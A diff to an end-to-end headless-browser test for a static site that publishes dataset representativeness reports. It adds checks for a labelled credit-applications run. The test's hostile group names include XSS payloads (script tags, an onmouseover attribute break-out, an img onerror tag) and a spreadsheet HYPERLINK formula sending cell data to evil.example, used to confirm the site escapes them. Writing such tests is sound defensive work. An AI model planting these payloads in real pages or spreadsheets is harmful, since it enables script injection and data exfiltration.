@@ -12,7 +12,7 @@ import {
 } from '../../functions/adapters/local/static-site-server.ts';
 import { suppressReport } from '../../functions/core/privacy/suppress.ts';
 import { renderSite } from '../../web/index.ts';
-import { hostileNamesReport, sampleReport } from '../fixtures/reports.ts';
+import { hostileNamesReport, labelledReport, sampleReport } from '../fixtures/reports.ts';
 
 /**
  * The published site end to end: rendered to a folder, served by the local static server, read in
@@ -32,6 +32,7 @@ if (!hasChromium && !requireBrowser) {
 
 const SECRET = 'top secret: outside the site root';
 const RUN_PATH = 'datasets/marketing-leads/runs/20240501T120000Z/index.html';
+const LABELLED_PATH = 'datasets/credit-applications/runs/20240601T090000Z/index.html';
 
 let workDir: string;
 let siteDir: string;
@@ -41,7 +42,7 @@ beforeAll(async () => {
   workDir = await mkdtemp(path.join(tmpdir(), 'repscope-e2e-'));
   siteDir = path.join(workDir, 'site');
   const files = await renderSite({
-    reports: [sampleReport(), hostileNamesReport()].map((r) => suppressReport(r, 10)),
+    reports: [sampleReport(), hostileNamesReport(), labelledReport()].map((r) => suppressReport(r, 10)),
     generatedAt: '2024-05-02T08:00:00.000Z',
   });
   for (const file of files) {
@@ -228,7 +229,8 @@ describe.runIf(hasChromium || requireBrowser)('the site in headless Chromium', (
     const box = await chart.locator('svg').boundingBox();
     expect(box?.width ?? 0).toBeGreaterThan(200);
     expect(box?.height ?? 0).toBeGreaterThan(100);
-    await expect(page.locator('.chart svg').count()).resolves.toBe(2);
+    // Two attribute charts and the label-rate chart of sex.
+    await expect(page.locator('.chart svg').count()).resolves.toBe(3);
     await expect(page.getByRole('cell', { name: '<10', exact: true }).count()).resolves.toBeGreaterThan(0);
     await expect(
       page.getByRole('table', { name: /sex × age_band, vs joint reference/ }).isVisible(),
@@ -250,16 +252,83 @@ describe.runIf(hasChromium || requireBrowser)('the site in headless Chromium', (
     await page.getByRole('link', { name: 'run-1' }).click();
     await page.waitForURL(/hostile-names\/runs\/run-1\/index\.html$/);
 
-    const script = page.getByRole('rowheader', { name: '<script>alert(1)</script>', exact: true });
+    // The group table; the same names are row headers of the label, composition and source tables too.
+    const groups = page.getByRole('table', { name: /dataset share compared with the reference/ });
+    const script = groups.getByRole('rowheader', { name: '<script>alert(1)</script>', exact: true });
     await expect(script.isVisible()).resolves.toBe(true);
     await expect(
-      page.getByRole('rowheader', { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }).isVisible(),
+      groups.getByRole('rowheader', { name: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }).isVisible(),
     ).resolves.toBe(true);
-    const mouseover = page.getByRole('rowheader', { name: '" onmouseover="alert(2)" x="', exact: true });
-    await mouseover.hover();
-    await expect(page.getByRole('heading', { name: '<b>region</b>' }).isVisible()).resolves.toBe(true);
+    await expect(
+      page.getByRole('rowheader', { name: '<script>alert(1)</script>', exact: true }).count(),
+    ).resolves.toBe(4);
+    for (const mouseover of await page
+      .getByRole('rowheader', { name: '" onmouseover="alert(2)" x="', exact: true })
+      .all()) {
+      await mouseover.hover();
+    }
+    await page.getByRole('columnheader', { name: '<img src=x onerror=alert(7)>', exact: true }).hover();
+    await expect(
+      page.getByRole('heading', { level: 3, name: '<b>region</b>', exact: true }).isVisible(),
+    ).resolves.toBe(true);
     await expect(page.locator('script, img, iframe, object, embed').count()).resolves.toBe(0);
     await expect(page.getByText('javascript:alert(6)').evaluate((el) => el.tagName)).resolves.toBe('CODE');
+
+    expect(problems).toEqual([]);
+    expect(outsideOrigin(requests, server.url)).toEqual([]);
+    await context.close();
+  });
+
+  it('shows labels, weights, sources and the correction of a labelled run, with no console errors', async () => {
+    const { context, page, problems, requests } = await watchedPage();
+    await page.goto(server.url);
+    await page.getByRole('link', { name: 'credit-applications', exact: true }).click();
+    await page.getByRole('link', { name: '20240601T090000Z' }).click();
+    await page.waitForURL(`${server.url}${LABELLED_PATH}`);
+
+    await expect(page.getByRole('heading', { level: 4, name: 'Labels: approved' }).count()).resolves.toBe(2);
+    const ageLabels = page.getByRole('table', {
+      name: 'age_band: rate of positive approved per group, each group vs the rest',
+    });
+    await expect(ageLabels.isVisible()).resolves.toBe(true);
+    const old = ageLabels.getByRole('row', { name: /^75\+/ });
+    await expect(old.getByRole('cell', { name: 'hidden', exact: true }).count()).resolves.toBe(1);
+    await expect(
+      page
+        .getByText(
+          'female: positive rate 20.4 % vs 23.2 % for the rest; disparate impact 0.88 (passes the four-fifths rule).',
+        )
+        .isVisible(),
+    ).resolves.toBe(true);
+    const labelChart = page.getByRole('img', {
+      name: /rate of positive approved labels per group of age_band/,
+    });
+    const box = await labelChart.locator('svg').boundingBox();
+    expect(box?.width ?? 0).toBeGreaterThan(200);
+    await expect(page.locator('.chart svg').count()).resolves.toBe(4);
+    await expect(page.getByText(/effective sample size \(Kish\) 11,204/).count()).resolves.toBe(2);
+
+    await expect(page.getByRole('heading', { level: 2, name: 'Sources' }).isVisible()).resolves.toBe(true);
+    const finding = page.locator('#sources ~ section .finding');
+    await expect(finding.textContent()).resolves.toContain('came from one source: branch.');
+    await expect(finding.evaluate((el) => getComputedStyle(el).borderLeftStyle)).resolves.toBe('solid');
+    const sexBySource = page.getByRole('table', {
+      name: /^sex: share of each group’s rows from each source/,
+    });
+    await expect(sexBySource.getByRole('cell', { name: 'hidden', exact: true }).count()).resolves.toBe(4);
+
+    await expect(
+      page
+        .getByText(
+          'would cost a design effect of 1.82, i.e. the data would be worth 6,581 rows (55 % of its rows).',
+          { exact: false },
+        )
+        .isVisible(),
+    ).resolves.toBe(true);
+    await expect(
+      page.getByText('Raking converged in 7 iterations', { exact: false }).isVisible(),
+    ).resolves.toBe(true);
+    await expect(page.getByText('Most misrepresented cells').isVisible()).resolves.toBe(true);
 
     expect(problems).toEqual([]);
     expect(outsideOrigin(requests, server.url)).toEqual([]);
